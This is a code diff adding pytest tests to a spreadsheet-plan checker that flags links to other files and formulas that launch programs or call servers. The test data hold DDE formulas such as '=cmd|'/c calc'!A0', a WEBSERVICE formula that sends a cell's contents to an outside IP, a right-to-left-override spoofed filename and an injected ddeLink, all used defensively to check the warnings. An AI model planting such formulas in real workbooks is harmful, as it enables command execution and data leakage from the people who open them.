@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import re
 from collections import Counter
+from zipfile import ZipFile
 
 import pytest
 from builder import PlanBuilder, clean_plan, editing
 from checking.rule_cases import DONE, SAYS_NOTHING, SIXTY
 from checking.workbook_cases import by, link_to_another_file
+from openpyxl.workbook.defined_name import DefinedName
 
 from plan_workbook.checking import Severity
 from plan_workbook.checking.report import check
@@ -231,7 +234,71 @@ def test_a_link_that_no_cell_uses_is_said_of_the_workbook(tmp_path):
     made.hand(made.plan.write_template(tmp_path / "plan.xlsx"))
     (found,) = check(read_plan(tmp_path / "plan.xlsx")).findings
     assert (found.rule, found.sheet, found.cell) == ("external-link", None, None)
-    assert "'budget 2017.xlsx'" in found.message
+    assert "'C:/Reports/budget 2017.xlsx'" in found.message
+
+
+@pytest.mark.parametrize(
+    ("target", "said"),
+    [
+        ("http://10.255.255.1/evil.xlsx", "'http://10.255.255.1/evil.xlsx'"),
+        ("https://jo:secret@example.org/a%20b.xlsx", "'https://example.org/a b.xlsx'"),
+        ("file://///server/share/x.xlsx", "'//server/share/x.xlsx'"),
+        ("file:///\\\\server\\share\\x.xlsx", "'\\\\server\\share\\x.xlsx'"),
+        ("figures.xlsx", "'figures.xlsx'"),
+        ("https://example.org/" + "a" * 300, "'https://example.org/aaa"),
+        ("https://example.org/%E2%80%AExslx.evil", "evil'"),
+    ],
+)
+def test_a_link_says_where_it_leads_and_no_more_than_people_can_read(target, said, tmp_path):
+    made = by(clean_plan(), lambda book: link_to_another_file(book, target))
+    made.hand(made.plan.write_template(tmp_path / "plan.xlsx"))
+    (found,) = check(read_plan(tmp_path / "plan.xlsx")).findings
+    assert said in found.message and "secret" not in found.message and "\u202e" not in found.message
+    assert len(found.message) < 200
+
+
+REACHING = {
+    "=cmd|'/c calc'!A0": "starts a program, 'cmd',",
+    "='cmd'|'/c calc'!A0": "starts a program, 'cmd',",
+    '=1+_xlfn.WEBSERVICE("http://10.255.255.1/?q="&A1)': "calls a server (WEBSERVICE)",
+    '=image("https://example.org/a.png")': "calls a server (IMAGE)",
+    '=RTD("some.server",,"topic")': "starts a program, 'RTD',",
+}
+
+
+@pytest.mark.parametrize(("formula", "said"), REACHING.items())
+def test_a_formula_that_starts_a_program_or_calls_a_server_is_named_and_nobody_is_told_to_open_it(
+    formula, said, tmp_path
+):
+    path = clean_plan().action().write_template(tmp_path / "plan.xlsx")
+    with editing(path) as book:
+        for row in (1, 2):
+            book.type("R01", "Actions", row, "Comment", formula)
+        cell = book.cell("R01", "Actions", 1, "Comment").coordinate
+    (found,) = check(read_plan(path)).findings
+    assert (found.rule, found.severity, found.sheet, found.cell) == ("external-link", Severity.WARNING, "R01", cell)
+    assert said in found.message and f"Others on this sheet are at {cell[0]}{int(cell[1:]) + 1}." in found.message
+    assert found.fix.startswith("Delete it, or type the value itself") and "open and save" not in found.fix
+
+
+def test_a_link_that_starts_a_program_is_said_even_if_no_cell_uses_it(tmp_path):
+    made = by(clean_plan(), link_to_another_file)
+    made.hand(made.plan.write_template(tmp_path / "plan.xlsx"))
+    with editing(tmp_path / "plan.xlsx") as book:
+        book.workbook.defined_names["Rates"] = DefinedName("Rates", attr_text='WEBSERVICE("http://10.255.255.1")')
+    link = '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
+    said = re.compile(r"<externalBook.*(?:</externalBook>|/>)(?=</externalLink>)", re.S)
+    content = {}
+    with ZipFile(tmp_path / "plan.xlsx") as file:
+        for name in file.namelist():
+            part = file.read(name).decode("utf-8", "surrogateescape")
+            content[name] = said.sub(link, part) if "externalLinks/externalLink1.xml" in name else part
+    with ZipFile(tmp_path / "dde.xlsx", "w") as file:
+        for name, part in content.items():
+            file.writestr(name, part.encode("utf-8", "surrogateescape"))
+    findings = check(read_plan(tmp_path / "dde.xlsx")).findings
+    assert [(each.rule, each.cell) for each in findings] == [("external-link", None)] * 2
+    assert ["WEBSERVICE" in each.message for each in findings] == [True, False] and "'cmd'" in findings[1].message
 
 
 def test_what_is_typed_over_a_formula_is_said_unless_it_says_the_same(tmp_path):
